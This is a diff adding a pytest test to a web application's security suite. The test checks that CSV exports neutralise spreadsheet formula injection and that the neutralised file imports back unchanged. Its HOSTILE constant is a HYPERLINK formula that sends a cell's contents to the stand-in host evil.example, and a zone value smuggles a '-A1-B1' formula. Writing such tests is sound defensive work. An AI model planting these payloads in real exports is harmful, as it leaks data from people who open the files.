@@ -3,7 +3,9 @@ redirects after login stay on the site, parallel password guesses cannot outrun 
 and every page carries the headers that keep scripts, frames and referrers in check."""
 
 import contextlib
+import csv
 import http.cookiejar
+import io
 import threading
 import urllib.error
 import urllib.parse
@@ -129,3 +131,36 @@ def test_every_response_carries_the_security_headers(server, ledger, path):
     assert headers["X-Content-Type-Options"] == "nosniff"
     assert headers["Referrer-Policy"] == "same-origin"
     assert "Strict-Transport-Security" not in headers  # plain HTTP: would be ignored anyway
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize("kind, row, hostile", [
+    ("suppliers", {"supplier": "acme", "name": HOSTILE}, HOSTILE),
+    # A zone is [A-Za-z0-9._-]: still enough for a spreadsheet to compute -A1-B1.
+    ("locations", {"code": "A-01", "zone": "-A1-B1"}, "-A1-B1"),
+    ("products", {"sku": "MUG", "name": HOSTILE}, HOSTILE),
+])  # fmt: skip
+def test_exported_csv_cells_never_run_as_formulas_and_import_back_unchanged(
+    server, kind, row, hostile
+):
+    columns = ",".join(row)
+    values = ",".join('"' + v.replace('"', '""') + '"' for v in row.values())
+    upload = f"{columns}\n{values}\n".encode()
+    bearer = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "text/csv"}
+    put = urllib.request.Request(f"{server}/api/{kind}.csv", data=upload, headers=bearer,
+                                 method="POST")  # fmt: skip
+    with urllib.request.urlopen(put, timeout=30) as response:
+        assert response.status in (200, 201)
+    get = urllib.request.Request(f"{server}/api/{kind}.csv", headers=bearer)
+    with urllib.request.urlopen(get, timeout=30) as response:
+        exported = response.read().decode()
+    cells = [cell for line in csv.reader(io.StringIO(exported)) for cell in line]
+    assert "'" + hostile in cells and hostile not in cells
+    again = urllib.request.Request(f"{server}/api/{kind}.csv", data=exported.encode(),
+                                   headers=bearer, method="POST")  # fmt: skip
+    with urllib.request.urlopen(again, timeout=30) as response:
+        assert response.status in (200, 201)
+    with urllib.request.urlopen(get, timeout=30) as response:
+        assert response.read().decode() == exported  # the apostrophe is not doubled
